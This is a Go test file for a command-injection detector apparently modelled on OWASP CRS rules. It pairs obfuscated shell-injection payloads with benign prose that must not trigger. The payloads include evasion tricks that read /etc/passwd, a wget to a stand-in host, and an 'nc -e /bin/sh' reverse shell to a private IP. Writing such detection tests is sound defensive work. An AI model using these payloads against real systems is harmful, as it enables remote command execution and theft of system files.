package signature_test

import "testing"

// An empty substitution inside a command's name ("pi$()ng", or a pair of
// backquotes): the shell drops it and runs the name (the CRS's 932240
// tests). Backquotes and "$()" in prose and in a price are no command.
func TestEmptySubstitutionInCommand(t *testing.T) {
	form := "body:application/x-www-form-urlencoded"
	checkFamily(t, "cmdi", []familyCase{
		{form, "x=ping`` 127.0.0.1", 0.99},
		{form, "x=pi``ng 127.0.0.1", 0.99},
		{form, "x=ping$() 127.0.0.1", 0.99},
		{form, "x=pi$()ng 127.0.0.1", 0.99},
		{"q", ";c$()at /etc/passwd", 0.99},
		{"q", "www.google.com;c$!at /et$!c/pas$!swd", 0.99}, // $! is empty until a background job (CRS 932200)
	}, []familyCase{
		{"q", "Costs US$! wow", 0},
		{"q", "use `` for code and $() for substitution", 0},
		{"q", "he said ``hello`` to me", 0},
		{"q", "costs $() nothing", 0},
		{"q", "the ping`` of the bell", 0},
	}, 0.9)
}

// A variable left unset at the end of a command's name ("uname$u -a",
// the CRS's 932235 and 932230), and a tool's subcommand binary after a
// separator ("; ansible-vault decrypt secret"). Words that are no
// command, and hyphenated English, stay prose.
func TestUnsetVariableAndSubcommandBinary(t *testing.T) {
	form := "body:application/x-www-form-urlencoded"
	checkFamily(t, "cmdi", []familyCase{
		{"q", "a; sh$XX -c whoami", 0.99},
		{"header:Cookie", "uname$u -a", 0.99},
		{"q", ";cat$u /etc/passwd", 0.99},
		{form, "code=time; ansible-config dump", 0.99},
		{form, "code=time; ansible-vault decrypt secret", 0.99},
	}, []familyCase{
		{"q", "echo hello$world", 0},
		{"q", "the price$total is here", 0},
		{"q", "ar$a", 0},
		{"q", "a well-known fact; state-of-the-art stuff", 0},
		{"q", "I use ansible-playbook daily", 0},
	}, 0.9)
}

// A word that is a variable alone before a command ("|$u wget x", the
// CRS's 932235): unset, it expands to no word and the command runs.
// Templates and shell prompts are no such word.
func TestVariableWordBeforeCommand(t *testing.T) {
	checkFamily(t, "cmdi", []familyCase{
		{"q", "|$u wget test", 0.99},
		{"q", ";$u wget http://x.example/a", 0.99},
		{"q", ";$a ${b} id", 0.99},
		{"header:Cookie", "x;${IFSX} nc -e /bin/sh 10.0.0.1 4444", 0.99},
	}, []familyCase{
		{"q", "Hello $name how are you", 0},
		{"q", "$ wget http://example.com/file.tgz", 0},
		{"q", "the $user set the value", 0},
		{"q", "$count files; $size bytes", 0},
		{"q", "Total: $5 cat food", 0},
	}, 0.9)
}

// An unset variable between two pieces of a command's name, its name ended
// by a backslash that escapes the next letter ("w$u\hoami", the CRS's
// 932240 "cu$v\r\l"). Strings of code with a variable before an escape
// sequence are no command.
func TestUnsetVariableBeforeEscapedLetter(t *testing.T) {
	checkFamily(t, "cmdi", []familyCase{
		{"q", ";w$u\\hoami", 0.99},
		{"q", "v='u';cu$v\\r\\l google.com", 0.99},
		{"q", "| c$x\\at /etc/hosts", 0.99},
	}, []familyCase{
		{"q", `printf("total$count\n")`, 0},
		{"q", `C:\Users\$name\Documents`, 0},
		{"q", `echo "a$b\c"`, 0},
	}, 0.9)
}

// A function that runs a shell command called with blanks before its
// bracket, as PHP and Python allow ("shell_exec (id)"); "system" and
// "exec" so spaced are words of prose unless a quoted command follows.
func TestExecCallSpacedBracket(t *testing.T) {
	checkFamily(t, "cmdi", []familyCase{
		{"q", "shell_exec (id)", 0.99},
		{"q", "passthru (id)", 0.99},
		{"q", "passthru\t(\"cat /etc/passwd\")", 0.99},
		{"q", `exec ("ls -la")`, 0.99},
	}, []familyCase{
		{"q", "system (ls)", 0},
		{"q", "the system (as designed) runs", 0},
		{"q", "the exec (executive) board met", 0},
		{"q", "run (ls) fast", 0},
	}, 0.9)
}
